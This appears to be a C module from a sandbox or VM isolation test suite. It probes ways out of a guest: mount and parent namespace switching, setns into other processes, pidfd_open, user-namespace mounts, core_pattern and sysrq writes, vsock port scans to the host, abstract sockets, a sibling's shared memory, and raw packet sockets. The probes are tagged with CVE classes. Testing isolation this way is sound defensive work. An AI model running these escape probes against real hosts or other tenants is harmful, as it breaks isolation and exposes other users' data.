// By namespaces, and by what no namespace divides.
#include "escape.h"
#include <arpa/inet.h>
#include <mqueue.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <sys/un.h>

#define NS_GET_USERNS _IO(0xb7, 1)
#define NS_GET_PARENT _IO(0xb7, 2)
struct mount_namespace_information { uint32_t size, count; uint64_t id; };
#define NS_MNT_GET_NEXT _IOR(0xb7, 11, struct mount_namespace_information)
#define NS_MNT_GET_PREV _IOR(0xb7, 12, struct mount_namespace_information)

static const char *judge_root(const char *by) {
    if (is_guest_root(AT_FDCWD) || (chdir("/") == 0 && is_guest_root(AT_FDCWD))) return reached("the guest's root by %s", by);
    return has_secret(AT_FDCWD, "/secret") ? reached("a sibling's root by %s", by) : NULL;
}
// All mount namespaces of the VM are one of a row.
static const char *mount_namespaces_in_order(void) {
    for (int forward = 0; forward < 2; forward++) {
        int current = open("/proc/self/ns/mnt", O_RDONLY);
        for (int i = 0; i < 100 && current >= 0; i++) {
            struct mount_namespace_information information = {.size = sizeof information};
            current = ioctl(current, forward ? NS_MNT_GET_NEXT : NS_MNT_GET_PREV, &information);
            if (current < 0) break;
            if (setns(current, CLONE_NEWNS) == 0) return judge_root("the order of mount namespaces") ?: reached("another's mount namespace");
        }
    }
    return NULL;
}
static const char *parents_of_namespaces(void) {
    const char *kinds[] = {"pid", "user"};
    for (int i = 0; i < 2; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/ns/%s", kinds[i]);
        int parent = ioctl(open(path, O_RDONLY), NS_GET_PARENT);
        if (parent >= 0 && setns(parent, 0) == 0) return reached("the parent of its %s namespace", kinds[i]);
    }
    return NULL;
}
static const char *namespaces_of_processes(void) {
    struct stat own, other;
    if (stat("/proc/self/ns/mnt", &own) < 0) return NULL;
    for (int pid = 1; pid < 400; pid++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/ns/mnt", pid);
        int space = open(path, O_RDONLY);
        if (space >= 0 && fstat(space, &other) == 0 && other.st_ino != own.st_ino && setns(space, 0) == 0)
            return judge_root("/proc/PID/ns/mnt") ?: reached("the mount namespace of process %d", pid);
        if (space >= 0) close(space);
    }
    return NULL;
}
static const char *process_descriptors(void) {
    for (int pid = 1; pid < 4000; pid++) {
        int process = (int)syscall(SYS_pidfd_open, pid, 0);
        if (process < 0) continue;
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/stat", pid);
        if (access(path, F_OK) < 0) return reached("process %d of another namespace", pid);
        close(process);
    }
    return NULL;
}
static const char *new_user_namespace(void) {
    if (unshare(CLONE_NEWUSER) < 0 || unshare(CLONE_NEWNS | CLONE_NEWNET) < 0) return NULL;
    int proc = mount_new("proc", "proc", NULL);
    if (proc >= 0 && (put(proc, "sys/kernel/core_pattern", "x") || put(proc, "sysrq-trigger", "h"))) return reached("the guest's settings");
    int root = mount_new("virtiofs", "czone", NULL);
    if (root >= 0) return reached("all volumes");
    root = mount_new("devtmpfs", "dev", NULL);
    return root >= 0 ? reached("the agent's /dev") : NULL;
}
// To the host, where each connection of the agent's for a sibling's streams can be met by the first comer.
static const char *vsock(void) {
    struct { unsigned short family, reserved; unsigned port, context; unsigned char zero[4]; } address = {.family = 40, .context = 2};
    for (int type = SOCK_STREAM; type <= SOCK_DGRAM; type++) {
        int fd = socket(40, type, 0);
        if (fd < 0) continue;
        for (address.port = 1; address.port < 2000; address.port++)
            if (connect(fd, (void *)&address, sizeof address) == 0) return reached("port %u of the host", address.port);
        return reached("a vsock socket");
    }
    return NULL;
}
static const char *abstract_sockets(void) {
    FILE *table = fopen("/proc/net/unix", "r");
    char line[300];
    while (table && fgets(line, sizeof line, table)) {
        char *name = strchr(line, '@');
        if (!name) continue;
        struct sockaddr_un address = {.sun_family = AF_UNIX};
        size_t length = strcspn(name + 1, "\n");
        memcpy(address.sun_path + 1, name + 1, length < 100 ? length : 100);
        int fd = socket(AF_UNIX, SOCK_STREAM, 0);
        if (connect(fd, (void *)&address, (socklen_t)(sizeof(sa_family_t) + 1 + length)) == 0) return reached("the socket %s", name);
    }
    return NULL;
}
// The sibling has made both.
static const char *shared_memory(void) {
    int id = shmget(0x8412, 4096, 0);
    if (id >= 0) return reached("a sibling's shared memory");
    mqd_t queue = mq_open("/sibling", O_RDONLY);
    return queue != (mqd_t)-1 ? reached("a sibling's message queue") : NULL;
}
static const char *other_network(void) {
    FILE *table = fopen("/proc/net/dev", "r");
    char line[300];
    while (table && fgets(line, sizeof line, table))
        if (strstr(line, "eth0.") || strstr(line, "port")) return reached("the VM's network device: %s", line);
    int raw = socket(AF_PACKET, SOCK_RAW, htons(3));
    struct { unsigned short family, protocol; int index; unsigned char rest[12]; } address = {AF_PACKET, htons(3), 2, {0}};
    return raw >= 0 && bind(raw, (void *)&address, sizeof address) == 0 ? reached("another interface") : NULL;
}

const struct escape namespace_escapes[] = {
    {"mount-namespaces", "NS_MNT_GET_NEXT without a check (Linux 6.12 to 2026)", mount_namespaces_in_order},
    {"parent-namespaces", "NS_GET_PARENT", parents_of_namespaces},
    {"namespaces-of-processes", "nsenter by /proc/1/ns (report on hostPID)", namespaces_of_processes},
    {"process-descriptors", "pidfd_open of others' processes", process_descriptors},
    {"user-namespace", "CVE-2022-0185, CVE-2023-0386: capabilities by a user namespace", new_user_namespace},
    {"vsock", "CVE-2020-2025 class: the way to host and agent", vsock},
    {"abstract-sockets", "CVE-2020-15257", abstract_sockets},
    {"shared-memory", "CVE-2015-3631 class: IPC of others", shared_memory},
    {"network-device", "CVE-2020-14386 class: packets on others' interfaces", other_network},
    {0},
};
